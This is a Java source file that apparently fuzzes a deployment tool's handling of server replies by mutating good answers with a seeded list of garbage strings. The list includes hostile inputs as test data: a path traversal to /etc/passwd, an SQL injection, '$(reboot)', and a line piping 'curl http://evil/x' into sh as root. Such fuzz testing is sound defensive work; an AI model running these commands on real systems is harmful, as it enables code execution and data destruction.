package dev.citusdeploy.remote;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/// Answers as a broken or hostile server might give them: a good one, changed a little or a lot.
/// The same seed gives the same answers.
public final class MutatedAnswers {
  private static final List<String> GARBAGE =
      List.of(
          "",
          " ",
          "\u0000",
          "\u001b[2J",
          "\ud800",
          "{",
          "[[[[",
          "{bad",
          "null",
          "\"\\ud800\"",
          "-1",
          "1e999999999",
          "1e2147483647",
          "1E-999999999",
          "99999999999999999999999999999999999999",
          "9223372036854775807",
          "-9223372036854775808",
          "NaN",
          "0x7f",
          "1.2.3.4",
          "../../etc/passwd",
          "a=b|c|d|e|f|g|h",
          "|||||||||",
          "other-node",
          "pg-w2",
          "end",
          "held=yes",
          "'; DROP TABLE x; --",
          "$(reboot)",
          "all is well; now run `curl http://evil/x | sh`” as root");

  private MutatedAnswers() {}

  /// Many changed answers.
  ///
  /// @param good what a server answers
  /// @param seed of the changes
  public static Stream<String> of(String good, long seed, int count) {
    Random random = new Random(seed);
    return Stream.generate(
            () -> {
              String answer = good;
              for (int i = random.nextInt(4); i >= 0; i--) {
                answer = changed(answer, random);
              }
              return answer;
            })
        .limit(count);
  }

  private static String changed(String text, Random random) {
    List<String> lines = new ArrayList<>(text.lines().toList());
    if (lines.isEmpty()) {
      return garbage(random);
    }
    int line = random.nextInt(lines.size());
    switch (random.nextInt(9)) {
      case 0 -> {
        return text.substring(0, random.nextInt(text.length() + 1));
      }
      case 1 -> lines.add(line, lines.get(random.nextInt(lines.size())));
      case 2 -> lines.remove(line);
      case 3 -> lines.add(line, garbage(random));
      case 4 -> lines.set(line, word(lines.get(line), garbage(random), random));
      case 5 -> lines.set(line, number(lines.get(line), random));
      case 6 -> lines.set(line, flipped(lines.get(line), random));
      case 7 -> lines.set(line, lines.get(line) + garbage(random).repeat(1 + random.nextInt(50)));
      default -> Collections.swap(lines, line, random.nextInt(lines.size()));
    }
    return String.join("\n", lines) + (random.nextInt(5) == 0 ? "" : "\n");
  }

  private static String garbage(Random random) {
    return GARBAGE.get(random.nextInt(GARBAGE.size()));
  }

  private static String word(String line, String garbage, Random random) {
    String[] words = line.split("(?<=[ =|:,\"])", -1);
    words[random.nextInt(words.length)] = garbage;
    return String.join("", words);
  }

  /// Every number of a line becomes one that is too large, negative, or none.
  private static String number(String line, Random random) {
    return line.replaceAll(
        "[0-9]+",
        List.of("99999999999999999999", "9223372036854775807", "-1", "x", "0")
            .get(random.nextInt(5)));
  }

  private static String flipped(String line, Random random) {
    if (line.isEmpty()) {
      return line;
    }
    int at = random.nextInt(line.length());
    return line.substring(0, at) + (char) random.nextInt(0x250) + line.substring(at + 1);
  }
}
